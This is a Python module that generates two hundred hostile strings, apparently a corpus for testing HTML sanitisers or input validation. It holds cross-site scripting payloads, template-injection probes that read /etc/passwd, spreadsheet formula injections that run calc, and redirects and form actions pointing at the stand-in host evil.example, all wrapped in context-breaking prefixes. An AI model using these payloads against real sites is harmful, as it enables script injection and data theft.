"""Two hundred hostile strings: scripts, handlers, addresses, formulas, broken markup."""

_RUN = "window.hit=1"
_CORES = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<body onload={_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q autofocus></form>",
    f"<details open ontoggle={_RUN}>",
    "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %}",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    '=HYPERLINK("http://evil.example";"open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f"<template><script>{_RUN}</script></template>",
)
_AROUND = (
    "{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "-->{}", "]]>{}", "</script>{}",
    "\u202e{}\u202c", "`'\"{}&lt;&#x27;",
)  # fmt: skip
PAYLOADS = tuple(around.format(core) for core in _CORES for around in _AROUND)
